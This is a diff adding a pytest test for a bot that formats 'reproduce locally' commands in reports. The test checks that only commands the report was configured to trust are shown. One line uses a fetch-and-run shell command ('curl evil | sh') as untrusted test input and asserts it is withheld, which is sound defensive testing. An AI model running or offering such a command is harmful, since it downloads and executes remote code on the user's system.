@@ -112,3 +112,23 @@ def test_templates_dir_overrides_and_strict_undefined(tmp_path):
     (tdir / "issue_body.md.j2").write_text("{{ no_such_variable }}\n")
     with pytest.raises(UsageError, match="no_such_variable"):
         render_for(tmp_path / "run2", c, failure_record(c), templates_dir=str(tdir))
+
+
+def test_reproduce_locally_shows_a_command_only_when_the_report_was_configured_with_it():
+    from bot.report import _reproduce_command
+
+    check = {"id": "bench-inductor-inference-float32-cpu", "model": "bench", "backend": "inductor",
+             "mode": "inference", "dtype": "float32", "device": "cpu", "config": {},
+             "spec": {"source": "command", "command": "python bench.py --layers 30", "cwd": "/src/my bench",
+                      "patterns": {"accuracy": ["drift of [0-9.]+"], "error": []}}}
+    untrusted = _reproduce_command(check, True)
+    assert "bench.py" not in untrusted and "--command COMMAND" in untrusted
+    trusted = _reproduce_command(check, True, ("python bench.py --layers 30",))
+    lines = trusted.splitlines()
+    assert lines[1] == "cd '/src/my bench'"
+    assert lines[2].startswith("python bench.py --layers 30    #")
+    assert ("minify-bot check --suite command --command 'python bench.py --layers 30' --name bench "
+            "--accuracy-pattern 'drift of [0-9.]+'") in lines[3]
+    # a different command in the artifact is still not offered, whatever the report trusts
+    other = dict(check, spec=dict(check["spec"], command="curl evil | sh"))
+    assert "curl" not in _reproduce_command(other, True, ("python bench.py --layers 30",))
